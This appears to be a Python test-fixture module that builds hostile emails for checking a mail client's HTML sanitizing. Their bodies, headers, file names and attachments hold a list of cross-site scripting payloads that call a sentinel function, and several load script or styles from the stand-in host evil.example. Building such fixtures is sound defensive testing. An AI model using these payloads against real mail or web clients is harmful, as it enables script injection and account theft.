"""Mails that try to run script in who reads them. Each calls `pwned` if it succeeds."""

from __future__ import annotations

from base64 import b64encode
from email.message import EmailMessage

CALL = "pwned(location.href)"
_QUOTED = CALL.replace("(", "&#40;")
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'><script>{CALL}</script></svg>"
_DATA = b64encode(f"<script>{CALL}</script>".encode()).decode()
_SVG_DATA = b64encode(_SVG.encode()).decode()

BODIES = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    "<script src='https://evil.example/pwned.js'></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x oNeRrOr='{_QUOTED}'>",
    f"<img/src='x'/onerror='{CALL}'/>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><rect width=999 height=999 /></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={CALL}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='data:text/html;base64,{_DATA}'></object>",
    f"<embed src='data:image/svg+xml;base64,{_SVG_DATA}'>",
    f"<img src='data:image/svg+xml;base64,{_SVG_DATA}'>",
    f"<body onload={CALL}><p onmouseover={CALL}>text</p>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video><source onerror={CALL}></video><audio src=x onerror={CALL}></audio>",
    f"<input autofocus onfocus={CALL}><select autofocus onfocus={CALL}></select>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<form action='javascript:{CALL}'><button autofocus>x</button></form>"
    f"<form id=f><input name=attributes></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>"
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
    "<link rel=stylesheet href='https://evil.example/pwned.css'>"
    "<style>@import 'https://evil.example/pwned.css';</style>",
    f"<div style=\"background:url('javascript:{CALL}');width:expression({CALL})\">x</div>",
    "<base href='https://evil.example/'><img src='pwned.png'>",
    f"<template><script>{CALL}</script></template><xss style='animation-name:x' "
    f"onanimationstart={CALL}>",
    f"<a id=victim href='javascript:{CALL}'>click</a>"
    f"<a href='java&#10;script:{CALL}'>click</a><a href='data:text/html;base64,{_DATA}'>click</a>",
    f"<!--><img src=x onerror={CALL}>--><![CDATA[><script>{CALL}</script>]]>",
    f"</div></body></html><script>top.{CALL}</script><plaintext>",
    f"<textarea></textarea><img src=x onerror={CALL}></textarea>",
)


def html_mails() -> list[bytes]:
    """Give a mail for each body."""
    mails = []
    for number, body in enumerate(BODIES):
        mail = EmailMessage()
        mail["From"] = "Mallory <mallory@evil.example>"
        mail["Subject"] = f"Hostile {number}"
        mail["Message-ID"] = f"<hostile-{number}@evil.example>"
        mail.set_content(f"<html><body><p>Hostile body {number}</p>{body}</body></html>", "html")
        mails.append(mail.as_bytes())
    return mails


def field_mails() -> list[bytes]:
    """Give mails whose header fields, texts and attachments are the attack."""
    tag = f'"><img src=x onerror={CALL}><script>{CALL}</script>'
    fields = EmailMessage()
    fields["From"] = "x@evil.example"
    fields["Subject"] = f"Hostile fields {tag}"
    fields["Message-ID"] = "<fields@evil.example>"
    fields.set_content(f'Hostile text {tag} javascript:{CALL} https://evil.example/"onx={CALL}\n')
    fields.add_attachment(
        f"<script>{CALL}</script>".encode(), "text", "html", filename=f"{tag}.html"
    )
    fields.add_attachment(_SVG.encode(), "image", "svg+xml", filename="picture.svg")
    encoded = b64encode(f"{tag} <x@evil.example>".encode()).decode()
    name = (
        f"From: =?utf-8?b?{encoded}?= <x@evil.example>\r\nSubject: Hostile name\r\n"
        f"Message-ID: <name@evil.example>\r\nContent-Type: text/html; charset=utf-7\r\n\r\n"
        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4- Hostile seven\r\n"
    ).encode()
    inline = EmailMessage()
    inline["From"], inline["Subject"] = "x@evil.example", "Hostile inline"
    inline["Message-ID"] = "<inline@evil.example>"
    inline.set_content("<p>Hostile inline</p><img src='cid:a@b'><iframe src='cid:c@d'>", "html")
    inline.add_related(_SVG.encode(), "image", "svg+xml", cid="<a@b>")
    inline.add_related(f"<script>{CALL}</script>".encode(), "text", "html", cid="<c@d>")
    return [fields.as_bytes(), name, inline.as_bytes()]
